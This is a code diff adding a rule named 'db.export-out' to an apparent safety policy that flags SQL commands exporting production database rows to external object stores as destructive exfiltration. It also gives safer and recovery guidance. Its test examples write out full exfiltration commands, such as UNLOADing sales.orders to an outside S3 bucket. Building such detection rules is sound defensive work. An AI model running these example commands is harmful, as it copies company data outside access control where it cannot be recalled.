@@ -397,6 +397,28 @@ RULES = [
         },
     },
     {
+        "id": "db.export-out",
+        "level": "destructive",
+        "irreversible": True,
+        "prod": True,
+        "reason": "writes a table's rows out of the database to an object store or a URL (UNLOAD … TO "
+        "'s3://…', COPY INTO 's3://…', EXPORT DATA, INSERT INTO FUNCTION s3(…)): a copy of the data "
+        "outside the database's access control, which cannot be called back; from production it is an "
+        "exfiltration unless the destination is the company's own",
+        "safer": "Export to the company's own stage or bucket named for it, with the columns needed, after "
+        "the data owner agrees.",
+        "recovery": "Delete the exported objects and review who read them (bucket access logs); rotate the "
+        "role used if the bucket is not the company's.",
+        "match": {"cmd": _CLIENTS, "sql": ("export_out",)},
+        "examples": {
+            "match": ['psql -h analytics-prod -c "UNLOAD (\'SELECT * FROM sales.orders\') TO '
+                      '\'s3://dropzone-1234/o_\' IAM_ROLE \'arn:aws:iam::1:role/x\'"',
+                      "snowsql -q \"COPY INTO 'gcs://ext-share/users/' FROM users\""],
+            "no_match": ['psql -h analytics-prod -c "SELECT count(*) FROM sales.orders"',
+                         "snowsql -q \"COPY INTO users FROM @my_stage/users.csv\""],
+        },
+    },
+    {
         "id": "db.write-production",
         "level": "reversible",
         "prod": True,
